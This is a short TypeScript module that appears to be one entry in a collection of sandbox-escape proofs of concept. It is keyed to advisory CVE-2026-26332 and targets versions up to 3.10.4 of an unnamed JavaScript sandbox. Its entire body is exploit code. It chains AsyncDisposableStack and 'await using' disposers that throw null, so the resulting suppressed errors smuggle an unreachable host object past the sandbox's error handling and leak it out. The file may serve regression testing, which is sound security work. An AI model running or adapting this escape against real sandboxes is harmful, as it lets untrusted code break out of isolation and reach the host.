import { attempted } from '../src/plunder.ts';
import { type BreakOut, late, realm } from '../src/probe.ts';
import { ofUnspeakable } from '../src/reach.ts';

export default {
  name: 'async-disposal',
  advisory: 'CVE-2026-26332, GHSA-55hx-c926-fr95',
  versions: '≤ 3.10.4',
  idea: 'An AsyncDisposableStack suppresses one error by another, past whoever makes errors harmless',
  attempt() {
    const keep = (value: unknown): void => void late.push(value);
    attempted(() => {
      const disposables = new realm.AsyncDisposableStack();
      disposables.defer(async () => {
        throw null;
      });
      disposables.defer(async () => ofUnspeakable());
      disposables.disposeAsync().then(keep, keep);
    });
    void (async () => {
      await using held = { [Symbol.asyncDispose]: async () => void ofUnspeakable() };
      late.push(held);
      throw null;
    })().catch(keep);
    return late;
  },
} satisfies BreakOut;
